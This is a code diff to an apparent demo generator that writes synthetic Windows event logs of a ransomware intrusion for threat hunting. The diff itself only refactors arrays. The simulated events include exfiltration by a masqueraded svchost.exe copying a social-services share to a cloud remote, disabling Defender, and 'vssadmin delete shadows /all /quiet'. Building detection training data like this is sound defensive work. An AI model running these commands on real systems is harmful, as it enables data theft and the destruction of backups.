@@ -22,6 +22,10 @@ internal sealed class DemoLogs(DateTimeOffset now)
 
     private static readonly string[] Reached = ["filer", "sql-1", "sql-2", "socialsystem", "omsorgsjournal", "lon", "vm-a", "backup"];
 
+    private static readonly string[] Tools = ["whoami", "ipconfig", "net", "systeminfo", "quser"];
+
+    private static readonly string[] Destroyed = ["backup", "filer", "sql-1", "vm-a"];
+
     private readonly List<EvtxEvent> events = [];
 
     /// <summary>Writes the logs, and asks for a hunt in them.</summary>
@@ -70,7 +74,7 @@ internal sealed class DemoLogs(DateTimeOffset now)
         events.Add(DemoEvents.Logon("fjarranslutning", Ago(97, 260), Taken, Outside, 3));
         // The first evening inside.
         events.Add(DemoEvents.Logon("terminal", Ago(96.5), Taken, Inside, 10));
-        foreach (var (tool, i) in new[] { "whoami", "ipconfig", "net", "systeminfo", "quser" }.Select((tool, i) => (tool, i)))
+        foreach (var (tool, i) in Tools.Select((tool, i) => (tool, i)))
             events.Add(DemoEvents.Process("terminal", Ago(96.3, i * 20), Taken, $@"C:\Windows\System32\{tool}.exe", tool, Cmd));
         events.Add(DemoEvents.Process("terminal", Ago(96.2), Taken, @"C:\Windows\System32\nltest.exe", "nltest /domain_trusts /all_trusts", Cmd));
         events.Add(DemoEvents.Process(
@@ -89,7 +93,7 @@ internal sealed class DemoLogs(DateTimeOffset now)
         events.Add(DemoEvents.GroupMemberAdded("ad-1", Ago(25.5), Admin, "svc-print"));
         events.Add(DemoEvents.Process("filer", Ago(24), Admin, @"C:\ProgramData\svchost.exe", @"svchost.exe copy E:\Socialtjänst mega:s --transfers 16 --max-age 2y", Cmd));
         // Tonight: what would bring everything back.
-        foreach (var (host, i) in new[] { "backup", "filer", "sql-1", "vm-a" }.Select((host, i) => (host, i)))
+        foreach (var (host, i) in Destroyed.Select((host, i) => (host, i)))
         {
             events.Add(DemoEvents.DefenderOff(host, Ago(3, i * 240)));
             events.Add(DemoEvents.Process(host, Ago(2.8, i * 240), Admin, @"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet", Cmd));
